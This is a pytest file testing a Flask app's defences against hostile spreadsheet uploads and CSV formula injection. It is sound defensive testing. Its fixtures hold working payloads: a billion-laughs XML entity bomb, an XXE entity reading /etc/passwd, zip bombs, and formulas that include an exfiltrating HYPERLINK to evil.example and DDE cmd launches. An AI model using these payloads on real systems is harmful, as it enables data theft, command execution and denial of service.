"""Spreadsheets can't attack: hostile uploads are refused before they are unpacked or expanded, and every
export writes formula-looking text as inert text (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import time
import zipfile

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import func, select

from delegations import spreadsheets
from delegations.constants import Role
from delegations.extensions import db
from delegations.models import Member, MemberImport
from delegations.protocol import gifts
from delegations.visits import member_import
from delegations.visits.member_import import MemberFileError, parse_member_file
from tests.accounts import sign_in
from tests.factories import make_delegation

HEADER = ["Name", "Function", "Organisation"]

BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>
</sheetData></worksheet>"""

EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>
<row r="2"><c r="A2" t="inlineStr"><is><t>&leak;</t></is></c></row>
</sheetData></worksheet>"""

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "\x01=1+1"]


@pytest.fixture(autouse=True)
def english_messages(app):
    with force_locale("en"):
        yield


def workbook_bytes(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_sheet(xml: str) -> bytes:
    """A genuine .xlsx whose first worksheet is replaced by `xml`."""
    original = zipfile.ZipFile(io.BytesIO(workbook_bytes([HEADER, ["Somebody", "", ""]])))
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in original.infolist():
            data = xml.encode() if info.filename == "xl/worksheets/sheet1.xml" else original.read(info.filename)
            archive.writestr(info.filename, data)
    return rebuilt.getvalue()


# Uploads ----------------------------------------------------------------------------------------------

def test_openpyxl_parses_through_defusedxml():
    from defusedxml import ElementTree as defused

    import openpyxl.xml.functions as xml_functions

    assert openpyxl.DEFUSEDXML is True
    assert xml_functions.iterparse is defused.iterparse
    assert xml_functions.fromstring is defused.fromstring or openpyxl.LXML


def test_billion_laughs_is_refused_at_once_with_a_message():
    started = time.perf_counter()
    with pytest.raises(MemberFileError) as error:
        parse_member_file("list.xlsx", with_sheet(BILLION_LAUGHS))
    assert time.perf_counter() - started < 2
    assert "could not be read (EntitiesForbidden)" in str(error.value)


def test_an_external_entity_is_not_resolved():
    with pytest.raises(MemberFileError) as error:
        parse_member_file("list.xlsx", with_sheet(EXTERNAL_ENTITY))
    assert "EntitiesForbidden" in str(error.value)


def test_without_defusedxml_excel_files_are_not_opened(monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(MemberFileError, match="defusedxml is missing"):
        parse_member_file("list.xlsx", workbook_bytes([HEADER, ["Somebody", "", ""]]))


@pytest.fixture
def openpyxl_must_not_open(monkeypatch):
    """Any call of openpyxl's loader fails loudly: the archive must be refused before it."""
    def refuse(*_args, **_kwargs):
        raise AssertionError("openpyxl opened the archive")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


def test_too_many_zip_entries_are_refused_before_openpyxl_opens_the_file(openpyxl_must_not_open):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        for number in range(member_import.MAX_ZIP_ENTRIES + 1):
            archive.writestr(f"xl/media/{number}.bin", b"")
    with pytest.raises(MemberFileError, match="unpack to far more data"):
        parse_member_file("list.xlsx", buffer.getvalue())


def test_a_declared_unpacked_size_over_the_limit_is_refused_before_openpyxl(openpyxl_must_not_open):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<" * (member_import.MAX_UNPACKED_BYTES + 1))
    assert len(buffer.getvalue()) < 1_000_000
    with pytest.raises(MemberFileError, match="unpack to far more data"):
        parse_member_file("Liste.XLSX", buffer.getvalue())


def test_a_zip_disguised_as_csv_is_still_checked_as_a_zip(openpyxl_must_not_open):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (member_import.MAX_UNPACKED_BYTES + 1))
    with pytest.raises(MemberFileError, match="unpack to far more data"):
        parse_member_file("list.csv", buffer.getvalue())


def test_an_upload_over_the_size_limit_is_refused_unread():
    with pytest.raises(MemberFileError, match="larger than 5 MB"):
        parse_member_file("list.csv", b"Name\n" + b"x" * member_import.MAX_FILE_BYTES)


@pytest.fixture
def visit(client):
    sign_in(client, Role.PLANNER)
    delegation = make_delegation()
    db.session.commit()
    return delegation


@pytest.mark.parametrize("content", [BILLION_LAUGHS, EXTERNAL_ENTITY])
def test_an_entity_bomb_on_the_page_gets_a_message_and_imports_nothing(client, visit, content):
    response = client.post(f"/delegations/{visit.id}/members/import",
                           data={"spreadsheet": (io.BytesIO(with_sheet(content)), "list.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 200 and "could not be read" in response.text
    assert "lollol" not in response.text and "root:x:0:0" not in response.text
    assert db.session.scalar(select(func.count()).select_from(MemberImport)) == 0
    assert db.session.scalar(select(func.count()).select_from(Member)) == 0


# Exports ----------------------------------------------------------------------------------------------

EXPORTERS = [pytest.param(spreadsheets.write_csv, spreadsheets.write_xlsx, id="shared"),
             pytest.param(gifts.write_csv, gifts.write_xlsx, id="gift-register")]


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_cell_prefixes_every_formula_start(value):
    shown = spreadsheets.cell_value(value)
    assert shown.startswith("'") and shown.lstrip("'").lstrip("\x01") == value.lstrip("\x01")
    assert spreadsheets.neutralise_cell(value) == ("'" + value if value[0] in "=+-@\t\r" else value)


def test_harmless_values_pass_unchanged():
    assert spreadsheets.neutralise_cell("Anna Wiśniewska") == "Anna Wiśniewska"
    assert spreadsheets.neutralise_cell(-5) == -5 and spreadsheets.neutralise_cell(None) is None
    assert spreadsheets.cell_value(12.5) == 12.5


@pytest.mark.parametrize("write_csv, write_xlsx", EXPORTERS)
def test_csv_export_writes_no_cell_that_starts_a_formula(write_csv, write_xlsx):
    data = write_csv(["Name", "Note"], [[f"Row {index}", value] for index, value in enumerate(FORMULAS)])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(FORMULAS) + 1
    for cell in cells:
        assert not cell.startswith(spreadsheets.FORMULA_STARTS), cell
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells


@pytest.mark.parametrize("write_csv, write_xlsx", EXPORTERS)
def test_xlsx_export_holds_no_formula_at_all(write_csv, write_xlsx):
    data = write_xlsx(["=Name", "Note"], [[f"Row {index}", value] for index, value in enumerate(FORMULAS)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=Name" in texts and all(not text.startswith(spreadsheets.FORMULA_STARTS) for text in texts)
